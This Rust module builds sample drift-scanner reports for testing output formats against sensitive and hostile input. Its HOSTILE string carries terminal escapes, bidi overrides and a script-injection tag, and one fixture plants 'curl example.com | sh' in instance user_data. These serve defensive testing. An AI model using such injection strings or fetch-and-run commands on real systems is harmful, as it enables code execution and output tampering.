//! Constructed reports for the tests of every format: all kinds, nothing at all, and hostile text in every field.
//! Knows nothing of the formats.

use crate::inventory::Covered;
use crate::model::{
    Activity, Approver, Assurance, AttributeChange, Attribution, Check, CommitSignature, Contributor, CoverageEntry,
    CoverageStatus, Emergency, Finding, Kind, LiveChange, Notice, Report, ReportedValue, RepositoryInfo, ScanInfo,
    Segregation, Severity, SourceRange, StateInfo, StateOrigin, Summary, UnreadState,
};
use provider_api::{ActorKind, AttributePath, GapClass, Program, Scope, Step, Tool, Voucher};
use provider_states::{Lock, Run};
use serde_json::{Value, json};
use std::collections::BTreeMap;

/// What must never be printed.
pub(super) const SECRET: &str = "hunter2-do-not-print";

/// Text that steers terminals, reorders, forges links and tags, and breaks lines.
pub(super) const HOSTILE: &str =
    "\u{1b}[31mx\u{9b}2J\u{7}\r\n\t\u{202e}\u{2066}\u{200b}[a](https://b)<script>alert(1)</script>\"'\\${x}\u{0}]({}";

/// Every constructed report with its name.
pub(super) fn all() -> Vec<(&'static str, Report)> {
    vec![
        ("drift", drift()),
        ("incomplete", incomplete()),
        ("clean", clean()),
        ("empty", empty()),
        ("hostile", hostile(HOSTILE)),
    ]
}

pub(super) fn scope() -> Scope {
    Scope { account: Some("111122223333".into()), region: Some("eu-west-1".into()) }
}

pub(super) fn place(file: &str, start_line: u32, end_line: u32) -> SourceRange {
    SourceRange { file: file.into(), start_line, start_column: 1, end_line, end_column: 2 }
}

fn approved() -> Attribution {
    Attribution {
        declaring_commit: Some("1111111111111111111111111111111111111111".into()),
        approving_commit: Some("abc1234567890abc1234567890abc1234567890a".into()),
        landed_at: Some("2026-03-01T10:00:00Z".into()),
        subject: Some("Merge pull request #12 from net/subnets".into()),
        authors: vec!["Ann Lee <ann@example.com>".into()],
        approvers: vec![
            Approver::new("Bo Berg <bo@example.com>", Assurance::Signed, "tag approved/12"),
            Approver::new("Cy Chen <cy@example.com>", Assurance::Asserted, "Reviewed-by trailer"),
        ],
        pull_request: Some("#12".into()),
        segregation: Segregation::Pass,
        reason: None,
        ..Attribution::unknown("")
    }
}

fn plain(value: Value) -> ReportedValue {
    ReportedValue::Plain(value)
}

pub(super) fn change(path: AttributePath, recorded: Value, live: Value) -> AttributeChange {
    AttributeChange {
        attribution: None,
        contributing: Vec::new(),
        path,
        declared: plain(recorded.clone()),
        recorded: plain(recorded),
        live: plain(live),
        sensitive: false,
        material: true,
        source: None,
    }
}

pub(super) fn finding(kind: Kind, address: &str, attributes: Vec<AttributeChange>) -> Finding {
    let address: crate::model::Address = address.parse().expect("an address");
    Finding {
        contributing: Vec::new(),
        id: format!(
            "{:064x}",
            address.to_string().bytes().fold(kind as u64, |sum, byte| sum * 31 % 1_000_003 + u64::from(byte))
        ),
        kind,
        root_module: "net".into(),
        workspace: "default".into(),
        resource_type: address.resource_type.to_string(),
        provider: "registry.terraform.io/hashicorp/aws".into(),
        scope: scope(),
        object_id: Some(format!("{}-0abc", address.name)),
        severity: Severity::Medium,
        material: true,
        default_object: false,
        created_at: None,
        tags: BTreeMap::new(),
        attributes,
        source: Some(place("net/main.tf", 3, 9)),
        attribution: approved(),
        activity: None,
        cause: None,
        address: Some(address),
    }
}

/// Ann opened a port in the console, after the last apply.
fn opened() -> Activity {
    let by_hand = LiveChange {
        at: "2026-03-01T10:02:00Z".into(),
        action: "ec2:AuthorizeSecurityGroupIngress".into(),
        who: "ann@example.com".into(),
        kind: ActorKind::Person,
        role: Some("Admin".into()),
        via: Some("arn:aws:sts::111122223333:assumed-role/Admin/ann@example.com".into()),
        mfa: Some(true),
        tool: Tool::Console,
        from: Some("203.0.113.7".into()),
        manual: true,
        sets: vec![AttributePath::attribute("ingress")],
    };
    let tagged = LiveChange {
        at: "2026-02-28T08:00:59Z".into(),
        action: "ec2:CreateTags".into(),
        who: "tagger".into(),
        kind: ActorKind::Role,
        role: None,
        tool: Tool::Sdk,
        sets: Vec::new(),
        ..by_hand.clone()
    };
    let apply = LiveChange {
        at: "2026-02-17T10:05:00Z".into(),
        who: "deploy".into(),
        kind: ActorKind::Role,
        role: None,
        tool: Tool::Terraform,
        manual: false,
        sets: Vec::new(),
        ..by_hand.clone()
    };
    let begins = Some("2025-12-01T00:00:00Z".into());
    Activity { changes: vec![by_hand, tagged], last_apply: Some(apply), begins, gap: None }
}

pub(super) fn unmanaged(resource_type: &str, object_id: &str) -> Finding {
    Finding {
        id: format!("{:064x}", object_id.bytes().fold(7u64, |sum, byte| sum * 31 % 1_000_003 + u64::from(byte))),
        address: None,
        resource_type: resource_type.into(),
        object_id: Some(object_id.into()),
        severity: Severity::Low,
        source: None,
        attribution: Attribution::unknown("it is declared nowhere"),
        ..finding(Kind::Unmanaged, "aws_vpc.x", Vec::new())
    }
}

fn changed() -> Vec<Finding> {
    let tag = |key: &str| AttributePath::attribute("tags").join(Step::Key(key.into()));
    let mut vpc = finding(
        Kind::Changed,
        r#"module.net["a"].aws_vpc.main[0]"#,
        vec![
            AttributeChange {
                declared: ReportedValue::NotKnown,
                material: false,
                ..change(AttributePath::attribute("enable_dns_support"), json!(true), json!(false))
            },
            AttributeChange {
                source: Some(place("net/main.tf", 5, 5)),
                contributing: vec![Contributor {
                    what: "local.env".into(),
                    source: Some(place("net/locals.tf", 2, 2)),
                    declaring_commit: Some("1".repeat(40)),
                    approving_commit: None,
                }],
                ..change(tag("Env"), json!("prod"), json!("dev"))
            },
            AttributeChange {
                source: Some(place("net/main.tf", 6, 6)),
                ..change(tag("Näme (x)"), json!("a"), Value::Null)
            },
        ],
    );
    vpc.severity = Severity::Low;
    let mut group = finding(
        Kind::Changed,
        "aws_security_group.web",
        vec![AttributeChange {
            source: Some(place("net/my groups/web.tf", 7, 12)),
            ..change(
                AttributePath::attribute("ingress"),
                json!([{"from_port": 443, "to_port": 443, "cidr_blocks": ["10.0.0.0/8"]}]),
                json!([{"from_port": 443, "to_port": 443, "cidr_blocks": ["10.0.0.0/8"]},
                           {"from_port": 22, "to_port": 22, "cidr_blocks": ["0.0.0.0/0"]}]),
            )
        }],
    );
    group.severity = Severity::High;
    group.activity = Some(opened());
    group.source = Some(place("net/my groups/web.tf", 5, 20));
    let policy = |action: &str| {
        json!(format!(
            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":{action},"Resource":"*"}}]}}"#
        ))
    };
    let mut endpoint = finding(
        Kind::Changed,
        "aws_vpc_endpoint.s3",
        vec![
            change(
                AttributePath::attribute("policy"),
                policy(r#""s3:GetObject""#),
                policy(r#"["s3:GetObject","s3:*"]"#),
            ),
            change(
                AttributePath::attribute("user_data"),
                json!("#!/bin/sh\nset -e\napt-get update\n\tstart\n"),
                json!("#!/bin/sh\nset -e\ncurl example.com | sh\n\tstart\n"),
            ),
        ],
    );
    endpoint.source = None;
    endpoint.attribution = Attribution::unknown("the clone is shallow: its history ends at abc1234");
    let mut secret = finding(
        Kind::Changed,
        "aws_instance.db",
        vec![
            AttributeChange {
                declared: ReportedValue::NotKnown,
                recorded: ReportedValue::Redacted("hmac-sha256:aa".into()),
                live: ReportedValue::Redacted("hmac-sha256:bb".into()),
                sensitive: true,
                ..change(AttributePath::attribute("password"), Value::Null, Value::Null)
            },
            AttributeChange {
                sensitive: true,
                ..change(AttributePath::attribute("token"), json!(SECRET), json!(format!("{SECRET}2")))
            },
        ],
    );
    secret.attribution.approvers.clear();
    secret.attribution.segregation = Segregation::Fail;
    secret.attribution.reason = Some("nobody but its author had a part in it".into());
    let mut incidental = finding(
        Kind::Changed,
        "aws_network_interface.nic",
        vec![AttributeChange {
            declared: ReportedValue::Absent,
            material: false,
            ..change(AttributePath::attribute("description"), json!(""), json!("x".repeat(300)))
        }],
    );
    incidental.material = false;
    incidental.severity = Severity::Info;
    vec![secret, incidental, group, vpc, endpoint]
}

/// Every kind of finding, in a scan that read all it wanted.
pub(super) fn drift() -> Report {
    let mut findings = changed();
    let mut missing = finding(Kind::Missing, "aws_subnet.gone", Vec::new());
    missing.severity = Severity::High;
    missing.activity = Some(Activity {
        begins: Some("2025-12-01T00:00:00Z".into()),
        gap: Some("LookupEvents in eu-west-1: AccessDeniedException: no (cloudtrail:LookupEvents is needed)".into()),
        ..Activity::default()
    });
    findings.push(missing);
    for (kind, address) in [
        (Kind::StaleState, "aws_eip.lagging"),
        (Kind::PendingCreate, "aws_eip.coming"),
        (Kind::PendingRemoval, "aws_eip.going"),
        (Kind::Unapplied, "aws_eip.later"),
        (Kind::Ignored, "aws_eip.ignored"),
        (Kind::ManagedTwice, "aws_eip.shared"),
    ] {
        let attributes = match kind {
            Kind::PendingCreate | Kind::PendingRemoval | Kind::ManagedTwice => Vec::new(),
            _ => vec![change(AttributePath::attribute("domain"), json!("vpc"), json!("standard"))],
        };
        let mut other = finding(kind, address, attributes);
        other.severity = Severity::Info;
        if kind == Kind::PendingRemoval {
            other.source = None;
        }
        findings.push(other);
    }
    findings.push(Finding {
        created_at: Some("2026-02-28T23:59:59Z".into()),
        tags: BTreeMap::from([("Owner".into(), "nobody".into())]),
        activity: Some(Activity {
            changes: vec![
                LiveChange { sets: Vec::new(), ..opened().changes[0].clone() },
                LiveChange { action: "ec2:CreateSecurityGroup".into(), ..opened().changes[1].clone() },
            ],
            last_apply: None,
            ..opened()
        }),
        ..unmanaged("aws_security_group", "sg-1")
    });
    findings.push(unmanaged("aws_subnet", "subnet-1"));
    findings.push(unmanaged("aws_subnet", "subnet-2"));
    findings.push(Finding { default_object: true, severity: Severity::Info, ..unmanaged("aws_vpc", "vpc-default") });
    findings.sort_by_key(|finding| finding.address.as_ref().map(ToString::to_string));
    Report {
        scan: ScanInfo { exit_code: 2, ..scan() },
        summary: Summary {
            resources: 120,
            in_sync: 109,
            changed: 5,
            missing: 1,
            unmanaged: 3,
            unknown: 0,
            stale_state: 1,
            pending_create: 1,
            pending_removal: 1,
            unapplied: 1,
            ignored: 1,
            managed_twice: 1,
            api_calls: 14,
            covered: Some(Covered { managed: 120, unmanaged: 3 }),
        },
        notices: vec![Notice {
            code: "state-newer-than-ref",
            incomplete: false,
            text: "the state net/terraform.tfstate was written after the approved commit.".into(),
            source: None,
        }],
        findings,
        coverage: ["aws_instance", "aws_subnet", "aws_vpc"].map(covered).into(),
        folds: vec![("null_is_empty".into(), 12), ("owned_by aws_security_group_rule".into(), 1)],
        anchors: vec![("net".into(), place("net/backend.tf", 2, 4))],
    }
}

fn covered(resource_type: &str) -> CoverageEntry {
    CoverageEntry {
        provider: "registry.terraform.io/hashicorp/aws".into(),
        scope: scope(),
        resource_type: resource_type.into(),
        reader: "native".into(),
        status: CoverageStatus::Complete,
        objects: 40,
        covered: None,
        attributes: vec!["arn".into(), "tags".into()],
        api_calls: 2,
        cause: None,
    }
}

/// A type that could not be read.
pub(super) fn gap(resource_type: &str, class: GapClass, cause: &str) -> CoverageEntry {
    CoverageEntry {
        status: CoverageStatus::Gap(class),
        cause: Some(cause.into()),
        objects: 0,
        attributes: Vec::new(),
        ..covered(resource_type)
    }
}

fn scan() -> ScanInfo {
    ScanInfo {
        directories: vec![String::new(), "net".into()],
        id: "01JQ000000000000000000000".into(),
        started_at: "2026-03-02T04:00:00Z".into(),
        finished_at: "2026-03-02T04:00:07.25Z".into(),
        repository: RepositoryInfo {
            root: "infrastructure".into(),
            reference: "refs/remotes/origin/main".into(),
            commit: "def4567890abcdef4567890abcdef4567890abcd".into(),
        },
        states: vec![StateInfo {
            source: "net/terraform.tfstate".into(),
            lineage: "7f8d0f0e-0000-4000-8000-000000000000".into(),
            serial: 7,
            sha256: "00".repeat(32),
            terraform_version: "1.11.4".into(),
            origin: StateOrigin {
                root_module: "net".into(),
                workspace: "default".into(),
                backend: Some("s3".into()),
                version: Some("v7".into()),
                modified_at: Some("2026-03-01T18:00:00Z".into()),
                checked_by: Some("the digest in DynamoDB".into()),
                ..StateOrigin::default()
            },
        }],
        unread: Vec::new(),
        left_out: vec![("modules/vpc".into(), "`net` calls it, and it has no backend".into())],
        programs: Vec::new(),
        complete: true,
        exit_code: 0,
    }
}

fn programs() -> Vec<(String, Program)> {
    let locked = Program { version: Some("5.100.0".into()), h1: Some("h1:x".into()), vouched_by: Voucher::LockFile };
    let developed = Program { version: None, h1: None, vouched_by: Voucher::DevelopmentOverride };
    vec![("registry.terraform.io/hashicorp/aws".into(), locked), ("example.com/corp/thing".into(), developed)]
}

/// No drift seen, but not everything was readable.
pub(super) fn incomplete() -> Report {
    let unknown = |address: &str| Finding {
        cause: Some("ec2:DescribeInstances was denied".into()),
        attributes: Vec::new(),
        ..finding(Kind::Unknown, address, Vec::new())
    };
    Report {
        scan: ScanInfo { complete: false, exit_code: 3, programs: programs(), ..scan() },
        summary: Summary { resources: 30, in_sync: 28, unknown: 2, api_calls: 9, ..Summary::default() },
        notices: vec![Notice {
            code: "module-not-read",
            incomplete: true,
            text: "the module at app/ could not be read, so nothing is said of its resources. Run it through `terraform fmt` to see where it breaks.".into(),
            source: Some(place("app/main.tf", 4, 4)),
        }],
        findings: vec![unknown("aws_instance.a"), unknown("aws_instance.b")],
        coverage: vec![
            gap("aws_instance", GapClass::Denied, "ec2:DescribeInstances: not authorized"),
            gap("aws_lb", GapClass::Unsupported, "no reader"),
            gap("aws_lb_listener", GapClass::Unsupported, "no reader"),
            covered("aws_vpc"),
        ],
        folds: Vec::new(),
        anchors: vec![("net".into(), place("net/backend.tf", 2, 4))],
    }
}

/// All in sync.
pub(super) fn clean() -> Report {
    Report {
        scan: scan(),
        summary: Summary { resources: 42, in_sync: 42, api_calls: 6, ..Summary::default() },
        notices: Vec::new(),
        findings: Vec::new(),
        coverage: vec![covered("aws_vpc")],
        folds: Vec::new(),
        anchors: vec![(String::new(), place("main.tf", 1, 3))],
    }
}

/// Nothing in the state.
pub(super) fn empty() -> Report {
    Report { summary: Summary::default(), coverage: Vec::new(), anchors: Vec::new(), ..clean() }
}

/// A report in which every text is the given one.
pub(super) fn hostile(text: &str) -> Report {
    let mut report = drift();
    let owned = || text.to_owned();
    let scope = Scope { account: Some(owned()), region: Some(owned()) };
    let range = SourceRange { file: text.replace('/', "|"), ..place("", 1, 2) };
    report.findings.push(Finding { cause: Some(owned()), ..finding(Kind::Unknown, "aws_vpc.unread", Vec::new()) });
    for (position, finding) in report.findings.iter_mut().enumerate() {
        finding.id = format!("{text}{position}");
        if let Some(address) = &mut finding.address {
            address.name = text.into();
            address.resource_type = text.into();
            address.module = [crate::model::ModuleStep { name: text.into(), key: None }].into();
            address.key = Some(crate::model::InstanceKey::Key(text.into()));
        }
        finding.root_module = owned();
        finding.resource_type = owned();
        finding.provider = owned();
        finding.scope = scope.clone();
        finding.object_id = Some(owned());
        finding.source = Some(range.clone());
        finding.cause = Some(owned());
        finding.created_at = Some(owned());
        finding.tags = BTreeMap::from([(owned(), owned())]);
        for (line, change) in (2..).zip(&mut finding.attributes) {
            change.path =
                AttributePath(vec![Step::Name(owned()), Step::Key(owned()), Step::Index(0), Step::Name(owned())]);
            change.source = Some(SourceRange { start_line: line, end_line: line, ..range.clone() });
            if !change.sensitive {
                change.declared = plain(json!(text));
                change.recorded = plain(json!(format!("{text}\n{text}")));
                change.live = plain(json!({text: [text, {"a": text}]}));
            }
        }
        let change = LiveChange {
            at: owned(),
            action: owned(),
            who: owned(),
            role: Some(owned()),
            via: Some(owned()),
            from: Some(owned()),
            sets: vec![AttributePath(vec![Step::Name(owned()), Step::Key(owned())])],
            ..opened().changes[0].clone()
        };
        finding.activity = Some(Activity {
            changes: vec![change.clone(), change.clone(), change.clone()],
            last_apply: Some(change),
            begins: Some(owned()),
            gap: Some(owned()),
        });
        finding.attribution = Attribution {
            declaring_commit: Some(owned()),
            approving_commit: Some(owned()),
            landed_at: Some(owned()),
            subject: Some(owned()),
            authors: vec![owned(), owned()],
            approvers: vec![Approver { at: Some(owned()), ..Approver::new(owned(), Assurance::Asserted, owned()) }],
            merged_by: Some(owned()),
            pull_request: Some(owned()),
            pull_request_url: Some(owned()),
            checks: vec![Check { name: owned(), conclusion: owned(), completed_at: Some(owned()), required: None }],
            emergency: Some(Emergency {
                marker: owned(),
                due: Some(owned()),
                approved_by: Some(owned()),
                approved_at: Some(owned()),
            }),
            signature: Some(CommitSignature { letter: 'G', signer: Some(owned()), key: Some(owned()) }),
            reverts: Some(owned()),
            segregation: Segregation::Fail,
            reason: Some(owned()),
        };
    }
    for entry in &mut report.coverage {
        entry.provider = owned();
        entry.scope = scope.clone();
        entry.resource_type = owned();
        entry.reader = owned();
        entry.status = CoverageStatus::Gap(GapClass::Failed);
        entry.attributes = vec![owned()];
        entry.cause = Some(owned());
    }
    let lock = Lock { id: owned(), operation: owned(), who: owned(), since: owned() };
    let run =
        Run { id: owned(), author: Some(owned()), at: Some(owned()), source: Some(owned()), commit: Some(owned()) };
    let state = StateInfo {
        source: owned(),
        lineage: owned(),
        serial: u64::MAX,
        sha256: owned(),
        terraform_version: owned(),
        origin: StateOrigin {
            root_module: owned(),
            workspace: owned(),
            backend: Some(owned()),
            nothing_kept: false,
            version: Some(owned()),
            modified_at: Some(owned()),
            checked_by: Some(owned()),
            lock: Some(lock),
            lock_unread: Some(owned()),
            run: Some(run),
            encrypted: true,
        },
    };
    let unread = UnreadState { root_module: owned(), workspace: Some(owned()), cause: owned(), hint: owned() };
    report.scan = ScanInfo {
        directories: vec![owned()],
        id: owned(),
        started_at: owned(),
        finished_at: owned(),
        repository: RepositoryInfo { root: owned(), reference: owned(), commit: owned() },
        states: vec![state],
        unread: vec![unread],
        left_out: vec![(owned(), owned())],
        programs: vec![(owned(), Program { version: Some(owned()), h1: Some(owned()), vouched_by: Voucher::LockFile })],
        complete: true,
        exit_code: 2,
    };
    report.notices = vec![Notice { code: "hostile", incomplete: false, text: owned(), source: Some(range.clone()) }];
    report.folds = vec![(owned(), 1)];
    report.anchors = vec![(owned(), range)];
    report
}
